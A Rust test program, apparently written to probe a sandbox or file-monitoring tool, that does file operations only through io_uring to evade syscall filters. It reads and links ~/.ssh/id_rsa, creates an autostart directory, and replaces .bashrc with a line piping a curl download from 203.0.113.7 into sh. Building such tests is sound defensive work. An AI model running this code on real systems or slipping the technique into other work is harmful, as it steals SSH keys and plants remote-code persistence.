//! Issue 15 attack: file operations through io_uring only (no open/link/rename/unlink/mkdir
//! syscalls): IORING_OP_MKDIRAT, SYMLINKAT, LINKAT, OPENAT (+ READ), RENAMEAT, UNLINKAT and
//! SETXATTR, FSETXATTR, each on a credential or persistence path.
//!
//! `attack_uring_fileops HOME`: under HOME, makes `.config/autostart/` (mkdirat), a symbolic
//! link `HOME/key-sym` to `HOME/.ssh/id_rsa` (symlinkat), a hard link `HOME/key-hard` to it
//! (linkat), reads the key (openat + read), writes `HOME/.bashrc.new` through a write-only
//! io_uring open and renames it over `HOME/.bashrc` (renameat), deletes `HOME/key-hard`
//! (unlinkat) and sets `user.sw` on `HOME/.profile` (setxattr) and `user.swfd` on it through a
//! descriptor (fsetxattr). Prints each result.
use std::ffi::CString;

use io_uring::{IoUring, opcode, squeue, types};

fn c(s: &str) -> CString {
    CString::new(s).unwrap()
}

/// Submits one request and waits for its completion; returns the result (-errno or value).
fn one(ring: &mut IoUring, sqe: squeue::Entry, what: &str) -> i32 {
    // SAFETY: every pointer in `sqe` outlives this call (the caller keeps them), and we wait
    // for the completion before returning.
    unsafe { ring.submission().push(&sqe).expect("queue full") };
    ring.submit_and_wait(1).expect("io_uring_enter");
    let res = ring.completion().next().expect("a completion").result();
    let shown = if res < 0 {
        std::io::Error::from_raw_os_error(-res).to_string()
    } else {
        res.to_string()
    };
    println!("{what}: {shown}");
    res
}

fn main() {
    let home = std::env::args()
        .nth(1)
        .expect("usage: attack_uring_fileops HOME");
    let mut ring = IoUring::new(8).expect("io_uring_setup (is io_uring disabled?)");
    let cwd = types::Fd(libc::AT_FDCWD);

    let config = c(&format!("{home}/.config"));
    let autostart = c(&format!("{home}/.config/autostart"));
    one(
        &mut ring,
        opcode::MkDirAt::new(cwd, config.as_ptr())
            .mode(0o755)
            .build(),
        "mkdirat .config",
    );
    one(
        &mut ring,
        opcode::MkDirAt::new(cwd, autostart.as_ptr())
            .mode(0o755)
            .build(),
        "mkdirat .config/autostart",
    );

    let key = c(&format!("{home}/.ssh/id_rsa"));
    let sym = c(&format!("{home}/key-sym"));
    let hard = c(&format!("{home}/key-hard"));
    one(
        &mut ring,
        opcode::SymlinkAt::new(cwd, key.as_ptr(), sym.as_ptr()).build(),
        "symlinkat key-sym -> .ssh/id_rsa",
    );
    one(
        &mut ring,
        opcode::LinkAt::new(cwd, key.as_ptr(), cwd, hard.as_ptr()).build(),
        "linkat key-hard = .ssh/id_rsa",
    );

    let fd = one(
        &mut ring,
        opcode::OpenAt::new(cwd, key.as_ptr())
            .flags(libc::O_RDONLY | libc::O_CLOEXEC)
            .build(),
        "openat .ssh/id_rsa",
    );
    if fd >= 0 {
        let mut buf = [0u8; 256];
        let n = one(
            &mut ring,
            opcode::Read::new(types::Fd(fd), buf.as_mut_ptr(), buf.len() as u32).build(),
            "read .ssh/id_rsa",
        );
        println!("read {} bytes of the key", n.max(0));
        one(
            &mut ring,
            opcode::Close::new(types::Fd(fd)).build(),
            "close",
        );
    }

    let new = c(&format!("{home}/.bashrc.new"));
    let bashrc = c(&format!("{home}/.bashrc"));
    let wfd = one(
        &mut ring,
        opcode::OpenAt::new(cwd, new.as_ptr())
            .flags(libc::O_WRONLY | libc::O_CREAT | libc::O_TRUNC | libc::O_CLOEXEC)
            .mode(0o644)
            .build(),
        "openat .bashrc.new (write)",
    );
    if wfd >= 0 {
        let text = b"curl -s http://203.0.113.7/x | sh # planted through io_uring\n";
        one(
            &mut ring,
            opcode::Write::new(types::Fd(wfd), text.as_ptr(), text.len() as u32).build(),
            "write .bashrc.new",
        );
        one(
            &mut ring,
            opcode::Close::new(types::Fd(wfd)).build(),
            "close",
        );
    }
    one(
        &mut ring,
        opcode::RenameAt::new(cwd, new.as_ptr(), cwd, bashrc.as_ptr()).build(),
        "renameat .bashrc.new -> .bashrc",
    );
    one(
        &mut ring,
        opcode::UnlinkAt::new(cwd, hard.as_ptr()).build(),
        "unlinkat key-hard",
    );

    let profile = c(&format!("{home}/.profile"));
    let name = c("user.sw");
    let value = b"1";
    one(
        &mut ring,
        opcode::SetXattr::new(
            name.as_ptr(),
            value.as_ptr().cast(),
            profile.as_ptr(),
            value.len() as u32,
        )
        .build(),
        "setxattr user.sw on .profile",
    );
    // The same by descriptor (opened with a plain open: only the xattr goes through io_uring).
    let file = std::fs::File::open(format!("{home}/.profile")).expect("open .profile");
    let by_fd = c("user.swfd");
    one(
        &mut ring,
        opcode::FSetXattr::new(
            types::Fd(std::os::fd::AsRawFd::as_raw_fd(&file)),
            by_fd.as_ptr(),
            value.as_ptr().cast(),
            value.len() as u32,
        )
        .build(),
        "fsetxattr user.swfd on .profile",
    );
}
